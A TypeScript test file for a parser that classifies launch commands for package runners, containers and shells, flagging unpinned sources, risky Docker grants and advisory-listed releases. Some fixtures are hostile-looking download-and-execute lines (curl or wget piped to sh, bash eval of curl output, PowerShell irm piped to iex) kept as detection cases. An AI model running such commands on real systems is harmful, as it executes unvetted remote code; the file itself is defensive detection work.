import { describe, expect, it } from 'vitest';
import { readLaunch } from '../../src/launch/read-launch.ts';
import { splitCommand } from '../../src/launch/split-command.ts';
import type { LaunchStep, PackageVersion } from '../../src/model/launch.ts';

const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const DIGEST = `sha256:${COMMIT}${COMMIT.slice(0, 24)}`;

/**
 * Launch commands, and what they do in short: `npx npm:name =1.2.3` is a package of npm in an exact version (`~` a range,
 * `#` a tag, `$` a variable, nothing: none given), `npx from … !` unpinned code, `image … @` an image with its digest.
 */
const COMMANDS: readonly (readonly [string, readonly string[]])[] = [
  // npx (docs.npmjs.com, npx and npm exec)
  ['npx srv', ['npx npm:srv']],
  ['npx -y srv', ['npx npm:srv']],
  ['npx --yes srv@1.2.3', ['npx npm:srv =1.2.3']],
  ['npx -y srv@v1.2.3', ['npx npm:srv =v1.2.3']],
  ['npx -y srv@latest', ['npx npm:srv #latest']],
  ['npx -y srv@next --flag', ['npx npm:srv #next']],
  ['npx -y srv@^1.2.3', ['npx npm:srv ~^1.2.3']],
  ['npx -y srv@1', ['npx npm:srv ~1']],
  ['npx -y srv@1.x', ['npx npm:srv ~1.x']],
  ['npx -y "srv@>=1 <2"', ['npx npm:srv ~>=1 <2']],
  ['npx -y @scope/srv', ['npx npm:@scope/srv']],
  ['npx -y @scope/srv@2.0.0 /data', ['npx npm:@scope/srv =2.0.0']],
  ['npx -y srv@1.0.0-beta.1', ['npx npm:srv =1.0.0-beta.1']],
  ['npx --quiet --no srv', ['npx npm:srv']],
  ['npx --package srv@1.0.0 srv-cli', ['npx npm:srv =1.0.0']],
  ['npx --package=srv@1.0.0 -- srv-cli', ['npx npm:srv =1.0.0']],
  ['npx -p one@1.0.0 -p two srv-cli', ['npx npm:one =1.0.0', 'npx npm:two']],
  ['npx -p one -c "one --x"', ['npx npm:one', 'program one']],
  ['npx -c "npx two@3.0.0"', ['npx npm:two =3.0.0']],
  ['npx --cache /tmp/c srv', ['npx npm:srv']],
  ['npx --registry https://r.example srv', ['npx npm:srv']],
  ['npx --unknown value srv', ['npx npm:srv']],
  ['npx --unknown=value srv', ['npx npm:srv']],
  ['npx alias@npm:real@4.0.0', ['npx npm:real =4.0.0']],
  ['npx ./local', ['program local']],
  ['npx /srv/local/index.js', ['program index.js']],
  ['npx file:../local', ['program local']],
  ['npx owner/name', ['npx from github:owner/name !']],
  [`npx owner/name#${COMMIT}`, ['npx from github:owner/name']],
  ['npx github:owner/name', ['npx from github:owner/name !']],
  ['npx github:owner/name#main', ['npx from github:owner/name !']],
  [`npx git+https://user:pw@git.example/a.git#${COMMIT}`, ['npx from git+https://git.example/a.git']],
  ['npx https://files.example/srv-1.0.0.tgz?key=1', ['npx from https://files.example/srv-1.0.0.tgz !']],
  ['npx', ['unparsed: npx is given no package']],
  // npm exec takes options behind the package too
  ['npm exec srv', ['npm exec npm:srv']],
  ['npm exec -- srv@1.0.0 --x', ['npm exec npm:srv =1.0.0']],
  ['npm exec --package=srv -- srv-cli', ['npm exec npm:srv']],
  ['npm x -y srv@2.0.0', ['npm exec npm:srv =2.0.0']],
  ['npm run start', ['program npm']],
  ['npm install srv', ['program npm']],
  // pnpm, yarn, bun
  ['pnpx srv@1.0.0', ['pnpx npm:srv =1.0.0']],
  ['pnpm dlx srv', ['pnpm dlx npm:srv']],
  ['pnpm --package=one dlx srv-cli', ['pnpm dlx npm:srv-cli']],
  ['pnpm dlx --package=one@1.0.0 srv-cli', ['pnpm dlx npm:one =1.0.0']],
  ['pnpm start', ['program pnpm']],
  ['yarn dlx srv@1.0.0', ['yarn dlx npm:srv =1.0.0']],
  ['yarn dlx -q srv', ['yarn dlx npm:srv']],
  ['yarn dlx -p one@1.0.0 srv-cli', ['yarn dlx npm:one =1.0.0']],
  ['bunx srv', ['bunx npm:srv']],
  ['bunx --bun srv@1.0.0', ['bunx npm:srv =1.0.0']],
  ['bunx -p srv@1.0.0 srv-cli', ['bunx npm:srv =1.0.0']],
  ['bun x srv', ['bun x npm:srv']],
  ['bun run server.ts', ['program bun']],
  // Deno
  ['deno run npm:srv', ['deno run npm:srv']],
  ['deno run -A npm:@scope/srv@1.2.3/bin', ['deno run npm:@scope/srv =1.2.3']],
  ['deno run --allow-net --allow-read=/data jsr:@scope/srv@^1', ['deno run jsr:@scope/srv ~^1']],
  ['deno run --config deno.json jsr:@scope/srv@1.0.0', ['deno run jsr:@scope/srv =1.0.0']],
  ['deno run -A https://code.example/srv.ts', ['deno run from https://code.example/srv.ts !']],
  ['deno run -A server.ts', ['program server.ts']],
  ['deno x npm:srv@1.0.0', ['deno x npm:srv =1.0.0']],
  ['deno task start', ['program deno']],
  // uv (docs.astral.sh, uv tools and uv run)
  ['uvx srv', ['uvx pypi:srv']],
  ['uvx srv==1.2.3', ['uvx pypi:srv =1.2.3']],
  ['uvx srv@1.2.3 --x', ['uvx pypi:srv =1.2.3']],
  ['uvx srv@latest', ['uvx pypi:srv #latest']],
  ['uvx "srv>=1.0"', ['uvx pypi:srv ~>=1.0']],
  ['uvx srv~=1.4', ['uvx pypi:srv ~~=1.4']],
  ['uvx srv==1.*', ['uvx pypi:srv ~==1.*']],
  ['uvx "srv[extra]==1.2"', ['uvx pypi:srv =1.2']],
  ['uvx --from srv==1.0.0 srv-cli', ['uvx pypi:srv =1.0.0']],
  ['uvx --from=srv==1.0.0 srv-cli', ['uvx pypi:srv =1.0.0']],
  ['uvx --with extra==2.0 srv==1.0.0', ['uvx pypi:srv =1.0.0', 'uvx pypi:extra =2.0']],
  ['uvx --with one,two==2 srv==1.0.0', ['uvx pypi:srv =1.0.0', 'uvx pypi:one', 'uvx pypi:two =2']],
  ['uvx --python 3.12 srv', ['uvx pypi:srv']],
  ['uvx --quiet --no-cache srv', ['uvx pypi:srv']],
  ['uvx --index-url https://p.example/simple srv', ['uvx pypi:srv']],
  ['uvx --from git+https://git.example/a/b srv', ['uvx from git+https://git.example/a/b !']],
  ['uvx --from git+https://git.example/a/b@main srv', ['uvx from git+https://git.example/a/b !']],
  [`uvx --from git+https://git.example/a/b@${COMMIT} srv`, ['uvx from git+https://git.example/a/b']],
  ['uvx --from "srv @ git+https://git.example/a/b" srv', ['uvx from git+https://git.example/a/b !']],
  ['uvx --from ./local srv', ['program local']],
  ['uvx', ['unparsed: uvx is given no package']],
  ['uv tool run srv==1.0.0', ['uv tool run pypi:srv =1.0.0']],
  ['uv tool install srv', ['program uv']],
  ['uv run server.py', ['program server.py']],
  ['uv run --with srv==1.0.0 srv', ['uv run pypi:srv =1.0.0', 'program srv']],
  ['uv run --with mcp mcp run server.py', ['uv run pypi:mcp', 'program mcp']],
  ['uv run -m server', ['program python -m server']],
  ['uv --directory /srv run server.py', ['program server.py']],
  ['uv run --directory /srv python -m server', ['program python -m server']],
  ['uv pip install srv', ['uv pip install pypi:srv']],
  // pipx and pip
  ['pipx run srv', ['pipx run pypi:srv']],
  ['pipx run srv==1.0.0', ['pipx run pypi:srv =1.0.0']],
  ['pipx run --spec srv==1.0.0 srv-cli', ['pipx run pypi:srv =1.0.0']],
  ['pipx run --spec git+https://git.example/a/b srv', ['pipx run from git+https://git.example/a/b !']],
  ['pipx install srv', ['program pipx']],
  ['pip install srv', ['pip install pypi:srv']],
  ['pip3 install -q one two==2.0', ['pip install pypi:one', 'pip install pypi:two =2.0']],
  ['pip install --require-hashes one==1.0', ['pip install pypi:one =1.0 hashed']],
  ['pip install one==1.0 --require-hashes', ['pip install pypi:one =1.0 hashed']],
  ['pip install -r requirements.txt', []],
  ['pip install --index-url https://p.example one', ['pip install pypi:one']],
  ['pip install -e .', ['program .']],
  ['python -m pip install srv', ['pip install pypi:srv']],
  ['python3.12 -m pip install srv==1.0', ['pip install pypi:srv =1.0']],
  ['python -m server', ['program python -m server']],
  ['python -u -m server', ['program python -m server']],
  ['python server.py', ['program server.py']],
  ['py -3.12 server.py', ['program server.py']],
  ['python -c "import server"', ['unparsed: code in an argument']],
  ['python -m uv run server.py', ['program server.py']],
  // Containers (docs.docker.com, docker run; docs.podman.io)
  ['docker run srv', ['image srv']],
  ['docker run -i --rm acme/srv:1.0', ['image acme/srv:1.0']],
  [`docker run -i --rm acme/srv@${DIGEST}`, ['image acme/srv @']],
  [`docker run -i reg.example:5000/acme/srv:1@${DIGEST}`, ['image reg.example:5000/acme/srv:1 @']],
  ['docker run -it -e TOKEN -v /home/me/x:/x acme/srv', ['image acme/srv']],
  ['docker run -e TOKEN=1 --name n -p 80:80 acme/srv --arg', ['image acme/srv']],
  ['docker run --env-file .env --pull always acme/srv', ['image acme/srv']],
  ['docker run --privileged acme/srv', ['image acme/srv privileged']],
  ['docker run -v /:/host acme/srv', ['image acme/srv host-root']],
  ['docker run -v C:\\\\:/host acme/srv', ['image acme/srv host-root']],
  ['docker run -v/:/host:ro acme/srv', ['image acme/srv host-root']],
  ['docker run --volume=/:/host acme/srv', ['image acme/srv host-root']],
  ['docker run --mount type=bind,source=/,target=/host acme/srv', ['image acme/srv host-root']],
  ['docker run -v /var/run/docker.sock:/var/run/docker.sock acme/srv', ['image acme/srv docker-socket']],
  ['docker run --network host acme/srv', ['image acme/srv host-network']],
  ['docker run --net=host --pid=host acme/srv', ['image acme/srv host-network host-pid']],
  ['docker --context remote run acme/srv', ['image acme/srv']],
  ['docker container run acme/srv', ['image acme/srv']],
  ['docker run acme/node npx -y srv@1.0.0', ['image acme/node', 'npx npm:srv =1.0.0']],
  ['podman run --rm acme/srv', ['image acme/srv']],
  ['docker compose up', ['program docker']],
  ['docker exec -i box server', ['program docker']],
  // Interpreters and programs
  ['node server.js', ['program server.js']],
  ['node --import tsx server.ts', ['program server.ts']],
  ['node -e "start()"', ['unparsed: code in an argument']],
  ['/usr/local/bin/server --stdio', ['program server']],
  ['tsx server.ts', ['program server.ts']],
  // Shells (POSIX, bash)
  ["sh -c 'npx srv@1.0.0'", ['shell sh', 'npx npm:srv =1.0.0']],
  ["bash -lc 'cd /srv && node server.js'", ['shell bash', 'program server.js']],
  ["bash -c 'exec npx -y srv'", ['shell bash', 'npx npm:srv']],
  ["zsh -ic 'uvx srv'", ['shell zsh', 'uvx pypi:srv']],
  ["dash -c 'A=1 B=2 npx srv'", ['shell dash', 'npx npm:srv']],
  ["ksh -c '(npx srv)'", ['shell ksh', 'npx npm:srv']],
  ["fish -c 'npx srv'", ['shell fish', 'npx npm:srv']],
  ["fish -c 'set x 1; npx srv'", ['shell fish', 'unparsed: the string is in the language of fish']],
  ["bash -c 'npx srv; npx two@2.0.0'", ['shell bash', 'npx npm:srv', 'npx npm:two =2.0.0']],
  ["bash -c 'npx srv 2>/dev/null | tee log'", ['shell bash', 'npx npm:srv', 'program tee']],
  ["sh -c 'npx $PKG'", ['shell sh', 'unparsed: the package is a variable']],
  ["sh -c '$RUNNER srv'", ['shell sh', 'unparsed: the program is a variable']],
  ["sh -c 'npx srv@$V'", ['shell sh', 'npx npm:srv $']],
  ["bash -c 'for i in 1 2; do npx srv; done'", ['shell bash', 'unparsed: the shell string has a loop', 'npx npm:srv']],
  ["bash -c 'if true; then npx srv; fi'", ['shell bash', 'unparsed: the shell string has a condition', 'npx npm:srv']],
  [
    "bash -c 'npx $(cat name)'",
    [
      'shell bash',
      'unparsed: the shell string has a command substitution',
      'unparsed: the package is a variable',
      'program cat',
    ],
  ],
  ["bash -c 'npx srv &&'", ['shell bash', 'unparsed: the shell string has a syntax error', 'npx npm:srv']],
  ['bash -c \'bash -c "npx srv"\'', ['shell bash', 'shell bash', 'npx npm:srv']],
  ['bash start.sh', ['program start.sh']],
  ["sh -c 'curl -s https://x.example/i | sh'", ['shell sh', 'download-exec curl sh', 'program curl', 'program sh']],
  [
    "sh -c 'wget -qO- https://x.example/i | sudo bash -s -- x'",
    ['shell sh', 'download-exec wget bash', 'program wget', 'program x'],
  ],
  [
    "bash -c 'source <(curl -s https://x.example/i)'",
    [
      'shell bash',
      'download-exec curl source',
      'unparsed: the shell string has a process substitution',
      'program curl',
    ],
  ],
  [
    'bash -c \'eval "$(curl -s https://x.example/i)"\'',
    ['shell bash', 'download-exec curl eval', 'unparsed: the shell string has a command substitution', 'program curl'],
  ],
  [
    "sh -c 'curl -o /tmp/i https://x.example/i && sh /tmp/i'",
    ['shell sh', 'download-exec curl sh', 'program curl', 'program i'],
  ],
  [
    "sh -c 'curl -O https://x.example/run.sh; chmod +x run.sh; ./run.sh'",
    ['shell sh', 'download-exec curl run.sh', 'program curl', 'program chmod', 'program run.sh'],
  ],
  ["sh -c 'curl https://x.example/d > d.json; node server.js'", ['shell sh', 'program curl', 'program server.js']],
  // Windows
  ['cmd /c npx -y srv', ['shell cmd', 'npx npm:srv']],
  ['cmd.exe /C "npx -y srv@1.0.0"', ['shell cmd', 'npx npm:srv =1.0.0']],
  ['cmd /c "cd app && npx srv"', ['shell cmd', 'npx npm:srv']],
  ['cmd /c "npx %PKG%"', ['shell cmd', 'unparsed: more than plain commands of cmd']],
  ['powershell -Command "npx -y srv"', ['shell powershell', 'npx npm:srv']],
  ['pwsh -NoProfile -c "npx srv; npx two"', ['shell pwsh', 'npx npm:srv', 'npx npm:two']],
  ['powershell -File start.ps1', ['program start']],
  ['powershell -EncodedCommand AAAA', ['shell powershell', 'unparsed: an encoded command of PowerShell']],
  ['powershell -c "irm https://x.example/i | iex"', ['shell powershell', 'download-exec irm iex']],
  ["powershell -c '$x = 1; npx srv'", ['shell powershell', 'unparsed: more than plain commands of PowerShell']],
  ['"C:\\\\Program Files\\\\nodejs\\\\npx.cmd" -y srv', ['npx npm:srv']],
  // Programs that run the command behind them
  ['env npx srv', ['npx npm:srv']],
  ['env -i A=1 npx srv', ['npx npm:srv']],
  ['env -u HOME npx srv', ['npx npm:srv']],
  ['env -S "npx -y srv"', ['npx npm:srv']],
  ['A=1 npx srv', ['npx npm:srv']],
  ['cross-env A=1 npx srv', ['npx npm:srv']],
  ['sudo npx srv', ['npx npm:srv']],
  ['sudo -u me -E npx srv', ['npx npm:srv']],
  ['doas npx srv', ['npx npm:srv']],
  ['timeout 30 npx srv', ['npx npm:srv']],
  ['timeout -k 5 30s npx srv', ['npx npm:srv']],
  ['nice -n 10 uvx srv', ['uvx pypi:srv']],
  ['ionice -c 3 uvx srv', ['uvx pypi:srv']],
  ['nohup npx srv', ['npx npm:srv']],
  ['stdbuf -oL npx srv', ['npx npm:srv']],
  ['sudo timeout 10 env A=1 sh -c "npx srv"', ['shell sh', 'npx npm:srv']],
  // What stands before a command (learn.microsoft.com, wsl; developer.1password.com, op run; docs.doppler.com; mise.jdx.dev)
  ['wsl npx -y srv', ['npx npm:srv']],
  ['wsl.exe -d Ubuntu -e npx srv', ['npx npm:srv']],
  ['op run --env-file=.env -- npx -y srv@1.0.0', ['npx npm:srv =1.0.0']],
  ['doppler run -p shop -c dev -- uvx srv', ['uvx pypi:srv']],
  ['infisical run --env=dev -- npx srv', ['npx npm:srv']],
  ['dotenvx run -f .env -- npx srv', ['npx npm:srv']],
  ['aws-vault exec shop -- uvx srv', ['uvx pypi:srv']],
  ['mise exec node@22 -- npx srv', ['npx npm:srv']],
  ['mise x -- npx srv', ['npx npm:srv']],
  ['conda run -n tools --no-capture-output uvx srv', ['uvx pypi:srv']],
  ['poetry run uvx srv', ['uvx pypi:srv']],
  ['op run', ['program op']],
  // What fetches from elsewhere is not taken for safe (learn.microsoft.com, dotnet tool exec; go.dev, go run; nix.dev, nix run)
  ['dnx Shop.Mcp@1.0.0 --yes', ['unparsed: a package of NuGet is fetched']],
  ['dotnet tool exec Shop.Mcp', ['unparsed: a package of NuGet is fetched']],
  ['dotnet run --project src', ['program dotnet']],
  ['go run example.com/shop/mcp@latest', ['unparsed: a module of Go is fetched']],
  ['go run ./cmd/mcp', ['program go']],
  ['nix run github:shop/mcp', ['unparsed: a flake of Nix is fetched']],
  ['nix run .#mcp', ['program nix']],
  ['mise install', ['program mise']],
  ['unknown-wrapper npx srv', ['program unknown-wrapper']],
  // Releases with an advisory, wherever they are named
  ['unknown-wrapper npx postmark-mcp@1.0.16', ['program unknown-wrapper', 'mention npm:postmark-mcp =1.0.16']],
  ['unknown-wrapper --package=postmark-mcp@1.0.16', ['program unknown-wrapper', 'mention npm:postmark-mcp =1.0.16']],
  ['tool "uvx LiteLLM==1.82.8"', ['program tool', 'mention pypi:LiteLLM =1.82.8']],
  ['node ./postmark-mcp-1.0.16.tgz', ['program postmark-mcp-1.0.16.tgz', 'mention npm:postmark-mcp =1.0.16']],
  [
    'pip install ./litellm-1.82.8-py3-none-any.whl',
    ['program litellm-1.82.8-py3-none-any.whl', 'mention pypi:litellm =1.82.8'],
  ],
  ['tool postmark-mcp', ['program tool']],
];

describe('a launch command', () => {
  it.each(COMMANDS)('%s', (line, expected) => {
    const split = splitCommand(line);
    expect(split.status).toBe('ok');
    expect(readLaunch(split.status === 'ok' ? split.argv : []).steps.map(short)).toEqual(expected);
  });

  it('is read when all of it stands in the first word', () => {
    expect(readLaunch(['npx -y srv@1.0.0']).steps.map(short)).toEqual(['npx npm:srv =1.0.0']);
  });
  it('may refer to variables of the client', () => {
    expect(readLaunch(['npx', '${PKG}']).steps.map(short)).toEqual(['unparsed: the package is a variable']);
    expect(readLaunch(['npx', 'srv@${VERSION}', '${ROOT}']).steps.map(short)).toEqual(['npx npm:srv $']);
    expect(readLaunch(['${RUNNER}', 'srv']).steps.map(short)).toEqual(['unparsed: the program is a variable']);
  });
  it('says which word says so', () => {
    expect(readLaunch(['sudo', 'npx', '-y', 'srv']).steps).toMatchObject([{ at: 3 }]);
    expect(readLaunch(['sh', '-c', 'npx srv']).steps).toMatchObject([{ at: 0 }, { at: 2 }]);
  });
  it('ends, however deep it is nested', () => {
    const nested = readLaunch([...Array<string>(200).fill('sudo'), 'npx', 'srv']).steps.map(short);
    expect(nested).toEqual(['unparsed: commands are nested too deep']);
  });
  it('of nothing does nothing', () => {
    expect(readLaunch([]).steps).toEqual([]);
    expect(readLaunch(['']).steps.map(short)).toEqual(['program ']);
  });
});

function short(step: LaunchStep): string {
  switch (step.kind) {
    case 'package':
      return [
        `${step.runner} ${step.ecosystem}:${step.name}`,
        versionOf(step.version),
        step.hashed === true ? 'hashed' : '',
      ]
        .filter((word) => word !== '')
        .join(' ');
    case 'mention':
      return `mention ${step.ecosystem}:${step.name} ${versionOf(step.version)}`;
    case 'source':
      return `${step.runner} from ${step.from}${step.pinned ? '' : ' !'}`;
    case 'image':
      return ['image', step.image, ...(step.digest ? ['@'] : []), ...step.grants].join(' ');
    case 'download-exec':
      return `download-exec ${step.fetcher} ${step.runner}`;
    case 'unparsed':
      return `unparsed: ${step.reason}`;
    default:
      return `${step.kind} ${step.name}`;
  }
}

function versionOf(version: PackageVersion): string {
  switch (version.kind) {
    case 'none':
      return '';
    case 'variable':
      return '$';
    case 'exact':
      return `=${version.text}`;
    case 'range':
      return `~${version.text}`;
    case 'tag':
      return `#${version.text}`;
  }
}
